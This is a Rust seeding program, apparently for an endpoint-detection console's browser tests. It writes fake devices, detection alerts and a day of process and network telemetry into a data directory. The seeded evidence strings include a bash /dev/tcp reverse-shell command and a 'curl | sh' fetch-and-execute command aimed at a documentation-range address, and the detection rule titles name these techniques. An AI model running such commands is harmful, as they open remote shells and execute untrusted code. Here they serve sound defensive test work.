//! Seeds a data directory for the console's browser tests, before `vigil-server` starts on it:
//! two devices (written to the state store as enrolled, with no certificate behind them: no
//! agent will connect), `--alerts N` alerts recorded through `StateStore::record_hits` (the
//! detection worker's own path, so they get incidents), and a day of process and network
//! events appended to the telemetry store (so hunting, timelines and entity pages have data).
//!
//! Usage: `cargo run -p vigil-server --example console_seed -- DATA_DIR ALERTS`. It prints one
//! JSON line with the ids, hashes and addresses the tests look for.

use std::path::PathBuf;
use std::time::Instant;

use anyhow::{bail, Context, Result};
use serde_json::json;
use vigil_schema::{Col, Row, Table, Timestamp};
use vigil_state::{DeviceSeen, NewDevice, NewHit, StateStore};
use vigil_store::{IngestBatch, Store, StoreOptions};

/// The file every seeded process runs, and the address it connects to.
const SHA256: &str = "5f2b8c1e9d3a47b6c0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7";
const REMOTE_IP: &str = "203.0.113.45";
const DEVICES: &[(&str, &str)] = &[
    ("d0c5eed0000000000000000000000001", "web-01"),
    ("d0c5eed0000000000000000000000002", "db-01"),
];
const RULES: &[(&str, &str, &str, &str)] = &[
    (
        "Reverse shell through bash /dev/tcp",
        "High",
        "CommandAndControl",
        "T1059.004",
    ),
    (
        "Cron entry downloading a payload",
        "Medium",
        "Persistence",
        "T1053.003",
    ),
    (
        "Ingress tool transfer with curl",
        "Low",
        "CommandAndControl",
        "T1105",
    ),
    ("Account discovery", "Informational", "Discovery", "T1087"),
];

fn now_ms() -> i64 {
    Timestamp::now().0 / 1_000_000
}

fn evidence(device: &str, name: &str, n: usize) -> String {
    json!([
        { "entity": "Device", "role": "Impacted", "DeviceId": device, "DeviceName": name },
        { "entity": "Process", "role": "Related", "FileName": "bash", "FolderPath": "/usr/bin/bash",
          "ProcessCommandLine": format!("bash -i >& /dev/tcp/{REMOTE_IP}/4444 0>&1 # {n}"),
          "ProcessId": 4000 + (n % 1000), "SHA256": SHA256 },
        { "entity": "Process", "role": "Parent", "FileName": "nginx", "FolderPath": "/usr/sbin/nginx",
          "ProcessCommandLine": "nginx: worker process", "ProcessId": 812 },
        { "entity": "Ip", "role": "Related", "Address": REMOTE_IP, "Port": 4444 },
        { "entity": "User", "role": "Related", "AccountName": "www-data" },
    ])
    .to_string()
}

async fn seed_state(dir: &std::path::Path, alerts: usize) -> Result<Vec<String>> {
    let state = StateStore::open(&dir.join("state.db"))
        .await
        .context("cannot open the state store")?;
    let now = now_ms();
    for (id, name) in DEVICES {
        state
            .upsert_enrolled_device(&NewDevice {
                device_id: id.to_string(),
                name: name.to_string(),
                cert_serial: "00".into(),
                cert_fingerprint: "00".repeat(32),
                cert_not_after_ms: now + 365 * 86_400_000,
                enrollment_token_id: None,
                enrolled_ms: now - 86_400_000,
            })
            .await?;
        state
            .touch_device(
                id,
                &DeviceSeen {
                    seen_ms: now,
                    health: Some("Active".into()),
                    agent_version: Some("0.0.0".into()),
                    os_platform: Some("Linux".into()),
                    os_version: Some("Debian 12".into()),
                    kernel: Some("6.1.0".into()),
                    ip: Some("10.0.0.5".into()),
                    sensor_mode: Some("ebpf".into()),
                    health_detail: None,
                    events_received: 0,
                    events_dropped: 0,
                },
            )
            .await?;
    }
    // Alerts spread over the last 7 days, newest last; every hit its own group.
    let span = 7 * 86_400_000i64;
    let mut first_ids = Vec::new();
    let chunk = 2_000;
    let mut n = 0;
    while n < alerts {
        let hits: Vec<NewHit> = (n..(n + chunk).min(alerts))
            .map(|i| {
                let (title, sev, cat, tech) = RULES[i % RULES.len()];
                let (dev, name) = DEVICES[i % DEVICES.len()];
                let at = now - span + (span / alerts.max(1) as i64) * i as i64;
                NewHit {
                    group_key: format!("seed-{i}"),
                    rule_id: format!("seed-rule-{}", i % RULES.len()),
                    title: title.to_string(),
                    severity: sev.to_string(),
                    category: cat.to_string(),
                    techniques: vec![tech.to_string()],
                    detection_source: if i % 10 == 0 { "CustomTI" } else { "Sigma" }.into(),
                    device_id: dev.to_string(),
                    at_ms: at,
                    count: 1,
                    last_ms: at,
                    evidence_json: evidence(dev, name, i),
                }
            })
            .collect();
        let rec = state.record_hits(&hits, 60_000, now).await?;
        if first_ids.is_empty() {
            first_ids = rec
                .iter()
                .filter_map(|r| r.alert_id.clone())
                .take(3)
                .collect();
        }
        n += hits.len();
    }
    state.close().await;
    Ok(first_ids)
}

fn seed_events(dir: &std::path::Path) -> Result<usize> {
    let store = Store::open(StoreOptions::new(dir.join("telemetry")))?;
    let now = Timestamp::now().0;
    let mut total = 0;
    for (d, (id, name)) in DEVICES.iter().enumerate() {
        let mut rows = Vec::new();
        for i in 0..600i64 {
            // One event every 2.4 minutes over the last day.
            let at = Timestamp(now - (i * 144 + d as i64 * 7) * 1_000_000_000);
            let mut p = Row::event(Table::DeviceProcessEvents, "ProcessCreated", at);
            p.put(Col::DeviceName, *name);
            p.put(Col::FolderPath, "/usr/bin/bash");
            p.put(Col::FileName, "bash");
            p.put(Col::SHA256, SHA256);
            p.put(
                Col::ProcessCommandLine,
                format!("bash -c 'curl -s http://{REMOTE_IP}/x | sh' # {i}"),
            );
            p.put(Col::InitiatingProcessFolderPath, "/usr/sbin/nginx");
            p.put(Col::InitiatingProcessFileName, "nginx");
            p.put(Col::AccountName, "www-data");
            p.put(Col::ProcessId, 10_000 + i);
            rows.push(p);
            if i % 3 == 0 {
                let mut c = Row::event(Table::DeviceNetworkEvents, "ConnectionSuccess", at);
                c.put(Col::DeviceName, *name);
                c.put(Col::RemoteIP, REMOTE_IP);
                c.put(Col::RemotePort, 443i32);
                c.put(Col::InitiatingProcessFileName, "curl");
                c.put(Col::InitiatingProcessFolderPath, "/usr/bin/curl");
                rows.push(c);
            }
        }
        total += rows.len();
        store.append(IngestBatch::from_rows(id, "seed-boot", 1, &rows))?;
    }
    store.flush()?;
    Ok(total)
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [dir, alerts] = args.as_slice() else {
        bail!("usage: console_seed DATA_DIR ALERTS");
    };
    let dir = PathBuf::from(dir);
    let alerts: usize = alerts
        .parse()
        .with_context(|| format!("ALERTS must be a whole number, not {alerts:?}"))?;
    std::fs::create_dir_all(&dir).with_context(|| format!("cannot create {}", dir.display()))?;
    let t = Instant::now();
    let ids = seed_state(&dir, alerts).await?;
    let events = tokio::task::spawn_blocking({
        let dir = dir.clone();
        move || seed_events(&dir)
    })
    .await??;
    println!(
        "{}",
        json!({
            "alerts": alerts,
            "events": events,
            "first_alert_ids": ids,
            "devices": DEVICES.iter().map(|(id, name)| json!({"DeviceId": id, "DeviceName": name})).collect::<Vec<_>>(),
            "sha256": SHA256,
            "remote_ip": REMOTE_IP,
            "seconds": t.elapsed().as_secs_f64(),
        })
    );
    Ok(())
}
